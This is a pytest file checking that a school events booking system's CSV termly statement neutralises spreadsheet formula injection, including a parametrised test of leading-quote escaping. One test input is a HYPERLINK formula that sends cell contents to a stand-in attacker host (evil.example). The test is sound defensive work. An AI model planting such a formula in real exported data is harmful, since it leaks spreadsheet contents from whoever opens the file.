"""The termly statement as CSV: a title a spreadsheet would run as a formula stays text."""

import csv
import io
from datetime import UTC, datetime

import pytest

from events.statements import safe_cell, statement_csv

STARTS = datetime(2026, 10, 1, 9, tzinfo=UTC)


def _statement(title: str) -> dict:
    line = {
        "booking_id": "b1",
        "event_id": "e1",
        "event_title": title,
        "person_id": "p1",
        "starts_at": STARTS,
        "status": "confirmed",
        "price_pence": 7500,
    }
    return {"school_urn": 100, "term": "2026-autumn", "lines": [line], "total_pence": 7500}


def test_a_formula_title_is_written_as_text():
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    rows = list(csv.reader(io.StringIO(statement_csv(_statement(title)))))
    assert rows[1][2] == "'" + title
    assert rows[1][5] == "75.00" and rows[-1][2:] == ["TOTAL", "", "", "75.00"]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+44 1253", "'+44 1253"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Phonics = fun", "Phonics = fun"),
        ("Maths mastery", "Maths mastery"),
        ("", ""),
        (None, ""),
        (12.5, "12.5"),
    ],
)
def test_cells_that_start_a_formula_get_a_leading_quote(cell, written):
    assert safe_cell(cell) == written


def test_every_cell_of_the_statement_is_neutralised():
    text = statement_csv(
        {
            **_statement("Fine"),
            "lines": [{**_statement("x")["lines"][0], "person_id": "@p1", "booking_id": "+b1"}],
        }
    )
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[0] == "'+b1" and row[3] == "'@p1"
